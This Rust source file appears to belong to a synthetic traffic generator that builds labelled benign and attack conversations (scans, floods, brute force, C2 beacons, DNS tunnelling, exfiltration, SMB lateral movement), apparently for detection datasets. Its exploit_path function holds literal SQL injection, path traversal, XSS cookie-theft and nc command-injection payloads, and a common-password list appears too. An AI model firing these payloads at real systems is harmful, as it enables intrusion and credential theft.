//! Traffic sources: the benign background and the attack steps, each a
//! generator of conversations on the capture clock.
//!
//! Takes a validated benign source or attack step and the [`World`]; gives,
//! at each of its start times (non-decreasing), the conversations that
//! start then, each with the label it carries. A source holds O(1) state
//! whatever it generates: scans walk their (target, port) space through a
//! modular permutation instead of a list.

use super::conv::{Conv, ICMP, Op, TCP, UDP};
use super::dist::Dist;
use super::proto::{self, Content, Smb2, qtype, tls_data};
use super::rng::Rng;
use super::spec::{App, AttackKind, BenignSpec, Closed, Service, StepSpec};
use super::wire::flags;
use super::world::World;
use std::rc::Rc;

/// Where a source's conversations come from.
#[derive(Debug, Clone)]
pub enum Plan {
    Benign(BenignSpec),
    Step(StepSpec),
}

/// One source of conversations.
#[derive(Debug)]
pub struct Source {
    /// Shared, so that spawning does not copy host lists.
    pub plan: Rc<Plan>,
    /// Index of the label its conversations carry.
    pub meta: u32,
    rng: Rng,
    next_t: Option<i64>,
    /// Conversations (or probes) started so far, and in all.
    i: u64,
    n: u64,
    /// Capture start and end, µs since the epoch.
    t0: i64,
    end: i64,
    /// Scan permutation: index -> (a * index + b) mod n.
    perm: (u64, u64),
    /// A fixed source port (nmap scans), per step.
    fixed_port: u16,
    /// Per-step counters (ICMP ids, DNS ids, ...).
    seq: u32,
}

/// A conversation and the label it carries.
#[derive(Debug)]
pub struct Spawned {
    pub conv: Conv,
    pub meta: u32,
}

fn gcd(mut a: u64, mut b: u64) -> u64 {
    while b != 0 {
        (a, b) = (b, a % b);
    }
    a
}

fn us(seconds: f64) -> i64 {
    (seconds * 1e6).round().clamp(0.0, 1e15) as i64
}

fn size(d: &Dist, rng: &mut Rng) -> u32 {
    d.sample(rng).round().clamp(0.0, 4e9) as u32
}

impl Source {
    /// A source over the capture `[t0, end)` (µs since the epoch).
    pub fn new(plan: Plan, meta: u32, mut rng: Rng, t0: i64, end: i64) -> Source {
        let (start, n) = match &plan {
            Plan::Benign(b) => (t0 + b.start_us, u64::MAX),
            Plan::Step(s) => (t0 + s.start_us, step_total(s)),
        };
        let perm = if n > 1 && n != u64::MAX {
            let mut a = 1 + rng.below(n - 1);
            while gcd(a, n) != 1 {
                a = a % (n - 1) + 1;
            }
            (a, rng.below(n))
        } else {
            (1, 0)
        };
        let fixed_port = 40_000 + rng.below(20_000) as u16;
        let mut s = Source {
            plan: Rc::new(plan),
            meta,
            rng,
            next_t: Some(start),
            i: 0,
            n,
            t0,
            end,
            perm,
            fixed_port,
            seq: 0,
        };
        if let Plan::Benign(b) = s.plan.as_ref() {
            // The first arrival is one inter-arrival time after the start.
            let gap = b.interarrival.sample_with_mean(&mut s.rng, 1.0 / b.rate);
            s.next_t = Some(start + us(gap));
        }
        if s.n == 0 {
            s.next_t = None;
        }
        s.clamp_to_end();
        s
    }

    /// When the next conversation starts.
    pub fn next_time(&self) -> Option<i64> {
        self.next_t
    }

    fn clamp_to_end(&mut self) {
        let limit = match self.plan.as_ref() {
            Plan::Benign(b) => self.t0 + b.end_us,
            Plan::Step(_) => self.end,
        };
        if self.next_t.is_some_and(|t| t >= limit.min(self.end)) {
            self.next_t = None;
        }
    }

    /// Start what starts now; schedule the next start.
    pub fn spawn(&mut self, w: &mut World, out: &mut Vec<Spawned>) {
        let Some(t) = self.next_t else { return };
        let mut rng = self.rng.fork();
        let meta = self.meta;
        let plan = Rc::clone(&self.plan);
        match plan.as_ref() {
            Plan::Benign(b) => {
                if let Some(conv) = benign(b, w, t, &mut rng) {
                    out.push(Spawned { conv, meta });
                }
                let gap = b.interarrival.sample_with_mean(&mut self.rng, 1.0 / b.rate);
                self.next_t = Some(t + us(gap).max(1));
            }
            Plan::Step(s) => {
                let i = self.i;
                self.attack(s, w, t, i, &mut rng, out);
                self.i += 1;
                self.next_t = if self.i >= self.n {
                    None
                } else {
                    Some(self.step_time(s, self.i))
                };
            }
        }
        self.clamp_to_end();
    }

    /// Start time of the `i`-th conversation of a step.
    fn step_time(&mut self, s: &StepSpec, i: u64) -> i64 {
        let start = self.t0 + s.start_us;
        let jitter = |rng: &mut Rng, gap: f64| us(gap * (0.9 + 0.2 * rng.unit()));
        match s.kind {
            AttackKind::C2HttpsBeacon | AttackKind::C2DnsBeacon => {
                let p = s.period_us as f64 / 1e6;
                let prev = self.next_t.unwrap_or(start);
                prev + us(p * (1.0 + s.jitter * (2.0 * self.rng.unit() - 1.0))).max(1000)
            }
            AttackKind::Slowloris | AttackKind::SlowRead => {
                start + i as i64 * 50_000 + jitter(&mut self.rng, 0.01)
            }
            AttackKind::HttpsExfil => {
                let prev = self.next_t.unwrap_or(start);
                prev + us(1.0 + 4.0 * self.rng.unit())
            }
            _ => {
                let gap = 1.0 / s.rate;
                start + us(i as f64 * gap) + jitter(&mut self.rng, gap * 0.2)
            }
        }
    }

    #[allow(clippy::too_many_lines)]
    fn attack(
        &mut self,
        s: &StepSpec,
        w: &mut World,
        t: i64,
        i: u64,
        rng: &mut Rng,
        out: &mut Vec<Spawned>,
    ) {
        let meta = self.meta;
        let from = s.from;
        let nt = s.targets.len() as u64;
        let mut push = |conv: Conv| out.push(Spawned { conv, meta });
        match s.kind {
            AttackKind::SynScan
            | AttackKind::ConnectScan
            | AttackKind::FinScan
            | AttackKind::NullScan
            | AttackKind::XmasScan
            | AttackKind::UdpScan => {
                let k = ((u128::from(self.perm.0) * u128::from(i) + u128::from(self.perm.1))
                    % u128::from(self.n)) as u64;
                let np = s.ports.len() as u64;
                let target = s.targets[(k / np) as usize];
                let port = s.ports[(k % np) as usize];
                let host = &w.hosts[target];
                let udp = s.kind == AttackKind::UdpScan;
                let open = host.services.open(port, udp);
                let reset = host.closed == Closed::Reset;
                if udp {
                    let payload = match port {
                        53 => proto::dns_query(rng.u32() as u16, "version.bind", qtype::TXT),
                        123 => proto::ntp(false, t, rng),
                        _ => Vec::new(),
                    };
                    let mut ops = vec![Op::Datagram {
                        from_c: true,
                        delay_us: 0,
                        content: Content::bytes(payload),
                        unreachable: !open && reset,
                    }];
                    if open {
                        let reply = match port {
                            53 => proto::dns_response(rng, 0, "version.bind", qtype::TXT, 0, 12),
                            _ => proto::ntp(true, t, rng),
                        };
                        ops.push(Op::Datagram {
                            from_c: false,
                            delay_us: 300,
                            content: Content::bytes(reply),
                            unreachable: false,
                        });
                    }
                    push(w.conv(UDP, from, Some(self.fixed_port), target, port, t, ops, rng));
                    return;
                }
                let op = match s.kind {
                    AttackKind::SynScan if open => Op::HalfOpen,
                    AttackKind::ConnectScan if open => {
                        push(w.conv(
                            TCP,
                            from,
                            None,
                            target,
                            port,
                            t,
                            vec![
                                Op::Connect,
                                Op::Reset {
                                    by_c: true,
                                    delay_us: 50,
                                },
                            ],
                            rng,
                        ));
                        return;
                    }
                    AttackKind::SynScan | AttackKind::ConnectScan if reset => Op::Refused,
                    AttackKind::SynScan => Op::SynOnly { retries: 0 },
                    AttackKind::ConnectScan => Op::SynOnly { retries: 1 },
                    _ => {
                        let f = match s.kind {
                            AttackKind::FinScan => flags::FIN,
                            AttackKind::NullScan => 0,
                            _ => flags::FIN | flags::PSH | flags::URG,
                        };
                        Op::Probe {
                            flags: f,
                            rst: !open && reset,
                        }
                    }
                };
                let cport = (s.kind != AttackKind::ConnectScan).then_some(self.fixed_port);
                push(w.conv(TCP, from, cport, target, port, t, vec![op], rng));
            }
            AttackKind::HostSweep => {
                let k = ((u128::from(self.perm.0) * u128::from(i) + u128::from(self.perm.1))
                    % u128::from(self.n)) as usize;
                let target = s.targets[k];
                let reply = w.hosts[target].closed == Closed::Reset;
                self.seq += 1;
                let id = self.fixed_port ^ 0x5a5a;
                let ops = vec![Op::Echo {
                    delay_us: 0,
                    id,
                    seq: self.seq as u16,
                    reply,
                    data: false,
                }];
                push(w.conv(ICMP, from, Some(0), target, 0, t, ops, rng));
            }
            AttackKind::SynFlood => {
                let target = s.targets[(i % nt) as usize];
                let port = s.port.unwrap_or(80);
                let host = &w.hosts[target];
                let op = if host.services.open(port, false) {
                    Op::SynAckOnly {
                        retries: u8::from(rng.chance(0.3)),
                    }
                } else if host.closed == Closed::Reset {
                    Op::Refused
                } else {
                    Op::SynOnly { retries: 0 }
                };
                push(w.spoofed_conv(s.spoof.0, s.spoof.1, TCP, target, port, t, vec![op], rng));
            }
            AttackKind::UdpFlood => {
                let target = s.targets[(i % nt) as usize];
                // Without a port: random ports of the traceroute range, where no
                // dissector mistakes the junk for a protocol.
                let port = s.port.unwrap_or_else(|| 33_434 + rng.below(90) as u16);
                let sport = 1024 + ((u64::from(self.fixed_port) + i) % 64_000) as u16;
                let n = size(&s.bytes, rng).clamp(0, 1400);
                let open = w.hosts[target].services.open(port, true);
                let reset = w.hosts[target].closed == Closed::Reset;
                let ops = vec![Op::Datagram {
                    from_c: true,
                    delay_us: 0,
                    content: Content::bytes(vec![0x58; n as usize]),
                    unreachable: !open && reset && rng.chance(0.05),
                }];
                push(w.conv(UDP, from, Some(sport), target, port, t, ops, rng));
            }
            AttackKind::Slowloris => {
                let target = s.targets[(i % nt) as usize];
                let port = s.port.unwrap_or(80);
                let host = w.hosts[target].name.clone();
                let head = format!(
                    "GET /?{} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept-language: en-US,en,q=0.5\r\n",
                    rng.below(5000)
                );
                let mut ops = vec![
                    Op::Connect,
                    Op::Send {
                        from_c: true,
                        delay_us: 0,
                        content: Content::bytes(head.into_bytes()),
                        paced: None,
                    },
                ];
                let keep = (s.duration_us / s.period_us.max(1)).max(1);
                for _ in 0..keep {
                    let line = format!("X-a: {}\r\n", rng.below(5000));
                    let d = us(s.period_us as f64 / 1e6 * (0.95 + 0.1 * rng.unit()));
                    ops.push(Op::Send {
                        from_c: true,
                        delay_us: d,
                        content: Content::bytes(line.into_bytes()),
                        paced: None,
                    });
                }
                ops.push(close(false, s.period_us));
                push(w.conv(TCP, from, None, target, port, t, ops, rng));
            }
            AttackKind::SlowRead => {
                let target = s.targets[(i % nt) as usize];
                let port = s.port.unwrap_or(80);
                let host = w.hosts[target].name.clone();
                let req = proto::http_request(rng, "GET", &host, "/static/large.bin", &[], 0);
                let seg = 256u32;
                let gap = s.period_us.clamp(100_000, 60_000_000);
                let segs = (s.duration_us / gap).clamp(2, 100_000) as u32;
                let head = proto::http_response(200, "OK", 0).len();
                let body = (segs * seg).saturating_sub(head).max(1);
                let ops = vec![
                    Op::Connect,
                    Op::Send {
                        from_c: true,
                        delay_us: 0,
                        content: req,
                        paced: None,
                    },
                    Op::Send {
                        from_c: false,
                        delay_us: 1_000,
                        content: proto::http_response(200, "OK", body),
                        paced: Some((seg, gap)),
                    },
                    close(false, gap),
                ];
                let mut conv = w.conv(TCP, from, None, target, port, t, ops, rng);
                conv.c.window = 2;
                push(conv);
            }
            AttackKind::SshBruteForce => {
                let target = s.targets[(i % nt) as usize];
                let mut ops = ssh_handshake(rng, proto::SSH_BRUTE_BANNER);
                let tries = 1 + rng.below(3);
                for k in 0..tries {
                    ops.push(send(
                        true,
                        if k == 0 { 2_000 } else { 300 },
                        Content::fill(proto::ssh_encrypted_len(60 + rng.below(40) as u32)),
                    ));
                    ops.push(send(
                        false,
                        1_500_000 + us(rng.unit()),
                        Content::fill(proto::ssh_encrypted_len(28)),
                    ));
                }
                ops.push(close(tries < 3, 200));
                push(w.conv(TCP, from, None, target, 22, t, ops, rng));
            }
            AttackKind::FtpBruteForce => {
                let target = s.targets[(i % nt) as usize];
                let mut ops = vec![
                    Op::Connect,
                    send(false, 1_000, proto::ftp_line("220 (vsFTPd 3.0.3)")),
                ];
                let tries = 1 + rng.below(3);
                for _ in 0..tries {
                    ops.push(send(true, 5_000, proto::ftp_line("USER admin")));
                    ops.push(send(
                        false,
                        300,
                        proto::ftp_line("331 Please specify the password."),
                    ));
                    let pw = PASSWORDS[rng.below(PASSWORDS.len() as u64) as usize];
                    ops.push(send(true, 2_000, proto::ftp_line(&format!("PASS {pw}"))));
                    ops.push(send(
                        false,
                        2_000_000 + us(rng.unit()),
                        proto::ftp_line("530 Login incorrect."),
                    ));
                }
                ops.push(send(true, 1_000, proto::ftp_line("QUIT")));
                ops.push(send(false, 300, proto::ftp_line("221 Goodbye.")));
                ops.push(close(false, 100));
                push(w.conv(TCP, from, None, target, 21, t, ops, rng));
            }
            AttackKind::HttpBruteForce => {
                let target = s.targets[(i % nt) as usize];
                let host = w.hosts[target].name.clone();
                let mut ops = vec![Op::Connect];
                let tries = 1 + rng.below(5);
                for k in 0..tries {
                    let pw = PASSWORDS[rng.below(PASSWORDS.len() as u64) as usize];
                    let body = format!("username=admin&password={pw}&submit=Login");
                    ops.push(send(
                        true,
                        if k == 0 { 0 } else { 20_000 },
                        proto::http_request(rng, "POST", &host, "/login", body.as_bytes(), 0),
                    ));
                    ops.push(send(
                        false,
                        30_000 + us(0.05 * rng.unit()),
                        proto::http_text_response(200, "OK", "Invalid username or password"),
                    ));
                }
                ops.push(close(true, 1_000));
                push(w.conv(TCP, from, None, target, 80, t, ops, rng));
            }
            AttackKind::WebExploit => {
                let target = s.targets[(i % nt) as usize];
                let host = w.hosts[target].name.clone();
                let path = exploit_path(rng);
                let (status, reason, body) = match rng.below(4) {
                    0 => (404, "Not Found", "Not Found"),
                    1 => (403, "Forbidden", "Forbidden"),
                    2 => (500, "Internal Server Error", "Database error near ''"),
                    _ => (200, "OK", "<html><body>No results</body></html>"),
                };
                let ops = vec![
                    Op::Connect,
                    send(
                        true,
                        0,
                        proto::http_request(rng, "GET", &host, &path, &[], 0),
                    ),
                    send(
                        false,
                        5_000 + us(0.03 * rng.unit()),
                        proto::http_text_response(status, reason, body),
                    ),
                    close(true, 500),
                ];
                push(w.conv(TCP, from, None, target, 80, t, ops, rng));
            }
            AttackKind::C2HttpsBeacon => {
                let target = s.targets[(i % nt) as usize];
                let sni = format!("cdn-{}.{}", proto::hex_token(rng, 6), "net");
                let mut ops = tls_handshake(rng, &sni, 2_400);
                ops.push(send(
                    true,
                    1_000,
                    // The implant's check-in: the same size every time.
                    Content::new().then(tls_data(180 + u32::from(self.fixed_port) % 200)),
                ));
                ops.push(send(
                    false,
                    20_000,
                    Content::new().then(tls_data(size(&s.bytes, rng).max(1))),
                ));
                ops.push(close(true, 500));
                push(w.conv(TCP, from, None, target, 443, t, ops, rng));
            }
            AttackKind::C2DnsBeacon => {
                let target = s.targets[(i % nt) as usize];
                let name = format!("{}.{}", proto::hex_token(rng, 16), s.domain);
                let id = rng.u32() as u16;
                let ops = txt_exchange(rng, id, &name, 15_000, 0.1, (24, 96));
                push(w.conv(UDP, from, None, target, 53, t, ops, rng));
            }
            AttackKind::DnsTunnel => {
                let target = s.targets[(i % nt) as usize];
                let cap = proto::tunnel_capacity(&s.domain);
                let name = proto::tunnel_name(rng, &s.domain, cap);
                let id = rng.u32() as u16;
                let ops = txt_exchange(rng, id, &name, 10_000, 0.05, (8, 16));
                push(w.conv(UDP, from, None, target, 53, t, ops, rng));
            }
            AttackKind::HttpsExfil => {
                let target = s.targets[(i % nt) as usize];
                let total = size(&s.bytes, rng).max(1);
                let part = (total / s.count.max(1) as u32).max(1);
                let sni = format!("files.{}.io", proto::hex_token(rng, 8));
                let mut ops = tls_handshake(rng, &sni, 3_200);
                ops.push(send(true, 2_000, Content::new().then(tls_data(part))));
                ops.push(send(
                    false,
                    30_000,
                    Content::new().then(tls_data(60 + rng.below(60) as u32)),
                ));
                ops.push(close(true, 1_000));
                push(w.conv(TCP, from, None, target, 443, t, ops, rng));
            }
            AttackKind::SmbLateral => {
                let target = s.targets[(i % nt) as usize];
                let ip = w.hosts[target].ep.ip;
                let file = size(&s.bytes, rng).max(1);
                let mut ops = vec![Op::Connect];
                let mut smb = SmbOps::open(&mut ops, 400, rng, &format!("\\\\{ip}\\ADMIN$"));
                let name = format!("{}.exe", proto::hex_token(rng, 8).to_uppercase());
                let create = smb.smb.create(&name, u64::from(file), true);
                smb.pair(create, 500);
                smb.transfer(file, true);
                smb.end(200);
                push(w.conv(TCP, from, None, target, 445, t, ops, rng));
                if w.hosts[target].services.has(Service::Rpc) {
                    let (q, r) = proto::dcerpc_bind(1);
                    let ops = vec![
                        Op::Connect,
                        send(true, 0, q),
                        send(false, 300, r),
                        close(true, 2_000),
                    ];
                    push(w.conv(TCP, from, None, target, 135, t + 200_000, ops, rng));
                }
            }
        }
    }
}

/// Conversations (or probes) a step starts in all.
fn step_total(s: &StepSpec) -> u64 {
    let nt = s.targets.len() as u64;
    let per_s = |rate: f64, dur: i64| ((rate * dur as f64 / 1e6).round() as u64).max(1);
    match s.kind {
        AttackKind::SynScan
        | AttackKind::ConnectScan
        | AttackKind::FinScan
        | AttackKind::NullScan
        | AttackKind::XmasScan
        | AttackKind::UdpScan => nt * s.ports.len() as u64,
        AttackKind::HostSweep => nt,
        AttackKind::SynFlood | AttackKind::UdpFlood => per_s(s.rate, s.duration_us),
        AttackKind::C2HttpsBeacon | AttackKind::C2DnsBeacon => {
            (s.duration_us / s.period_us.max(1)).max(1) as u64
        }
        AttackKind::DnsTunnel => {
            let total = s.bytes.mean().max(1.0) as u64;
            total.div_ceil(u64::from(proto::tunnel_capacity(&s.domain).max(1)))
        }
        AttackKind::Slowloris
        | AttackKind::SlowRead
        | AttackKind::SshBruteForce
        | AttackKind::FtpBruteForce
        | AttackKind::HttpBruteForce
        | AttackKind::WebExploit
        | AttackKind::HttpsExfil
        | AttackKind::SmbLateral => s.count,
    }
}

const PASSWORDS: [&str; 12] = [
    "123456", "password", "admin", "qwerty", "letmein", "welcome1", "P@ssw0rd", "dragon", "monkey",
    "iloveyou", "root", "changeme",
];

/// A URL of the shape web exploitation tools send (SQL injection, path
/// traversal, command injection, XSS), URL-encoded, 60-1500 characters.
fn exploit_path(rng: &mut Rng) -> String {
    let base = match rng.below(5) {
        0 => "/index.php?id=1%27%20UNION%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20users--%20".to_string(),
        1 => format!("/download.php?file={}etc%2Fpasswd", "..%2F".repeat(4 + rng.below(8) as usize)),
        2 => "/cgi-bin/status?cmd=%3Bcat%20%2Fetc%2Fshadow%7Cnc%20203.0.113.9%204444".to_string(),
        3 => "/search?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E".to_string(),
        _ => "/api/v1/users?filter=1%20OR%201%3D1%20AND%20SLEEP(5)".to_string(),
    };
    let pad = rng.below(1200) as usize;
    if pad > 600 {
        format!("{base}&x={}", "A".repeat(pad))
    } else {
        base
    }
}

/// A DNS TXT query and its answer after `delay_us` plus up to `jitter_s`
/// seconds, carrying `lo + below(span)` bytes of text (C2 and tunnels).
fn txt_exchange(
    rng: &mut Rng,
    id: u16,
    name: &str,
    delay_us: i64,
    jitter_s: f64,
    (lo, span): (u32, u64),
) -> Vec<Op> {
    let query = Op::Datagram {
        from_c: true,
        delay_us: 0,
        content: Content::bytes(proto::dns_query(id, name, qtype::TXT)),
        unreachable: false,
    };
    let delay_us = delay_us + us(jitter_s * rng.unit());
    let txt = lo + rng.below(span) as u32;
    let answer = Op::Datagram {
        from_c: false,
        delay_us,
        content: Content::bytes(proto::dns_response(rng, id, name, qtype::TXT, 0, txt)),
        unreachable: false,
    };
    vec![query, answer]
}

/// The ops of an SMB2 session: each request from the client, its answer
/// `reply_us` later.
struct SmbOps<'a> {
    ops: &'a mut Vec<Op>,
    smb: Smb2,
    reply_us: i64,
}

impl<'a> SmbOps<'a> {
    /// Negotiate, two session-setup rounds, and connect to `share`.
    fn open(ops: &'a mut Vec<Op>, reply_us: i64, rng: &mut Rng, share: &str) -> SmbOps<'a> {
        let mut s = SmbOps {
            ops,
            smb: Smb2::new(rng),
            reply_us,
        };
        let neg = s.smb.negotiate(rng);
        s.pair(neg, 0);
        let setup = s.smb.session_setup();
        s.pair(setup, 1_000);
        let setup = s.smb.session_setup();
        s.pair(setup, 1_000);
        let tree = s.smb.tree_connect(share);
        s.pair(tree, 500);
        s
    }

    /// A request `think` µs after the previous answer, and its answer.
    fn pair(&mut self, (q, r): (Content, Content), think: i64) {
        self.ops.push(send(true, think, q));
        self.ops.push(send(false, self.reply_us, r));
    }

    /// Write or read the open file's `size` bytes in 64 KiB requests, then
    /// close it.
    fn transfer(&mut self, size: u32, write: bool) {
        let mut off = 0u32;
        while off < size {
            let n = (size - off).min(65_536);
            let rw = if write {
                self.smb.write(u64::from(off), n)
            } else {
                self.smb.read(u64::from(off), n)
            };
            self.pair(rw, 100);
            off += n;
        }
        let done = self.smb.close();
        self.pair(done, 200);
    }

    /// Disconnect from the share `disconnect_us` after the last answer, log
    /// off and close the connection.
    fn end(mut self, disconnect_us: i64) {
        let d = self.smb.tree_disconnect();
        self.pair(d, disconnect_us);
        let l = self.smb.logoff();
        self.pair(l, 200);
        self.ops.push(close(true, 500));
    }
}

/// The connection closes from the client (`by_c`) or the server side.
fn close(by_c: bool, delay_us: i64) -> Op {
    Op::Close { by_c, delay_us }
}

fn send(from_c: bool, delay_us: i64, content: Content) -> Op {
    Op::Send {
        from_c,
        delay_us,
        content,
        paced: None,
    }
}

/// Connect + TLS 1.3 handshake (server's encrypted flight of about `cert` bytes).
fn tls_handshake(rng: &mut Rng, sni: &str, cert: u32) -> Vec<Op> {
    let hello = proto::tls_client_hello(rng, sni);
    vec![
        Op::Connect,
        send(true, 0, Content::bytes(hello)),
        send(false, 1_500, proto::tls_server_flight(rng, cert)),
        send(true, 500, proto::tls_client_finished()),
    ]
}

/// Connect + SSH banners, key exchange and NEWKEYS.
fn ssh_handshake(rng: &mut Rng, client_banner: &[u8]) -> Vec<Op> {
    let mut reply = proto::ssh_ecdh(rng, true);
    reply.extend(proto::ssh_newkeys(rng));
    vec![
        Op::Connect,
        send(
            false,
            2_000,
            Content::bytes(proto::SSH_SERVER_BANNER.to_vec()),
        ),
        send(true, 1_000, Content::bytes(client_banner.to_vec())),
        send(true, 100, Content::bytes(proto::ssh_kexinit(rng, false))),
        send(false, 500, Content::bytes(proto::ssh_kexinit(rng, true))),
        send(true, 500, Content::bytes(proto::ssh_ecdh(rng, false))),
        send(false, 3_000, Content::bytes(reply)),
        send(true, 500, Content::bytes(proto::ssh_newkeys(rng))),
    ]
}

const DOMAINS: [&str; 10] = [
    "www.example.com",
    "cdn.example.net",
    "mail.example.org",
    "api.example.com",
    "static.example.net",
    "update.example.com",
    "login.example.org",
    "images.example.com",
    "news.example.net",
    "docs.example.org",
];

fn think(b: &BenignSpec, rng: &mut Rng) -> i64 {
    us(b.think.sample(rng))
}

fn count(d: &Dist, rng: &mut Rng) -> u32 {
    d.sample(rng).round().clamp(1.0, 10_000.0) as u32
}

/// One benign conversation of source `b` starting at `t`.
fn benign(b: &BenignSpec, w: &mut World, t: i64, rng: &mut Rng) -> Option<Conv> {
    if b.clients.is_empty() || b.servers.is_empty() {
        return None;
    }
    let client = *rng.pick(&b.clients);
    let server = *rng.pick(&b.servers);
    if client == server {
        return None;
    }
    let svc = b.app.service();
    let host = w.hosts[server].name.clone();
    let mut ops = Vec::new();
    let proto_n = if svc.udp() { UDP } else { TCP };
    match b.app {
        App::Http => {
            ops.push(Op::Connect);
            for k in 0..count(&b.exchanges, rng) {
                let path = format!(
                    "/{}/{}.{}",
                    ["static", "img", "api", "assets"][rng.below(4) as usize],
                    proto::hex_token(rng, 10),
                    ["js", "css", "png", "json"][rng.below(4) as usize]
                );
                let req = size(&b.request_bytes, rng);
                let resp = size(&b.response_bytes, rng);
                ops.push(send(
                    true,
                    if k == 0 { 0 } else { think(b, rng) },
                    proto::http_request(rng, "GET", &host, &path, &[], req),
                ));
                ops.push(send(
                    false,
                    500 + us(0.01 * rng.unit()),
                    proto::http_response(200, "OK", resp),
                ));
            }
            ops.push(close(rng.chance(0.7), think(b, rng)));
        }
        App::Https => {
            let sni = DOMAINS[rng.below(DOMAINS.len() as u64) as usize];
            let cert = 2_000 + rng.below(3_000) as u32;
            ops = tls_handshake(rng, sni, cert);
            for k in 0..count(&b.exchanges, rng) {
                let req = size(&b.request_bytes, rng).max(1);
                let resp = size(&b.response_bytes, rng).max(1);
                ops.push(send(
                    true,
                    if k == 0 { 200 } else { think(b, rng) },
                    Content::new().then(tls_data(req)),
                ));
                ops.push(send(
                    false,
                    500 + us(0.02 * rng.unit()),
                    Content::new().then(tls_data(resp)),
                ));
            }
            ops.push(close(rng.chance(0.8), think(b, rng)));
        }
        App::Dns => {
            let name = DOMAINS[rng.below(DOMAINS.len() as u64) as usize];
            let id = rng.u32() as u16;
            let qt = if rng.chance(0.7) {
                qtype::A
            } else {
                qtype::AAAA
            };
            ops.push(Op::Datagram {
                from_c: true,
                delay_us: 0,
                content: Content::bytes(proto::dns_query(id, name, qt)),
                unreachable: false,
            });
            let resp = size(&b.response_bytes, rng);
            ops.push(Op::Datagram {
                from_c: false,
                delay_us: 200 + us(0.02 * rng.unit()),
                content: Content::bytes(proto::dns_response(rng, id, name, qt, resp, 0)),
                unreachable: false,
            });
        }
        App::Ntp => {
            ops.push(Op::Datagram {
                from_c: true,
                delay_us: 0,
                content: Content::bytes(proto::ntp(false, t, rng)),
                unreachable: false,
            });
            ops.push(Op::Datagram {
                from_c: false,
                delay_us: 100,
                content: Content::bytes(proto::ntp(true, t, rng)),
                unreachable: false,
            });
        }
        App::SshInteractive | App::SshBulk => {
            ops = ssh_handshake(rng, proto::SSH_CLIENT_BANNER);
            // Public-key authentication.
            for (c, s) in [(44, 44), (52, 52), (420, 300), (96, 32)] {
                ops.push(send(
                    true,
                    2_000,
                    Content::fill(proto::ssh_encrypted_len(c)),
                ));
                ops.push(send(
                    false,
                    1_000,
                    Content::fill(proto::ssh_encrypted_len(s)),
                ));
            }
            if b.app == App::SshBulk {
                let n = size(&b.response_bytes, rng).max(1);
                ops.push(send(
                    true,
                    5_000,
                    Content::fill(proto::ssh_encrypted_len(100)),
                ));
                ops.push(send(false, 2_000, Content::fill(n)));
            } else {
                for _ in 0..count(&b.exchanges, rng) {
                    let echo = size(&b.response_bytes, rng).max(1);
                    ops.push(send(
                        true,
                        think(b, rng),
                        Content::fill(proto::ssh_encrypted_len(1)),
                    ));
                    ops.push(send(
                        false,
                        300,
                        Content::fill(proto::ssh_encrypted_len(echo)),
                    ));
                }
            }
            ops.push(close(true, think(b, rng)));
        }
        App::Smb => {
            let ip = w.hosts[server].ep.ip;
            ops.push(Op::Connect);
            let mut smb = SmbOps::open(&mut ops, 300, rng, &format!("\\\\{ip}\\share"));
            for _ in 0..count(&b.exchanges, rng) {
                let file = size(&b.response_bytes, rng).max(1);
                let name = format!("docs\\{}.docx", proto::hex_token(rng, 8));
                let th = think(b, rng);
                let create = smb.smb.create(&name, u64::from(file), false);
                smb.pair(create, th);
                smb.transfer(file, false);
            }
            smb.end(500);
        }
    }
    Some(w.conv(proto_n, client, None, server, svc.port(), t, ops, rng))
}
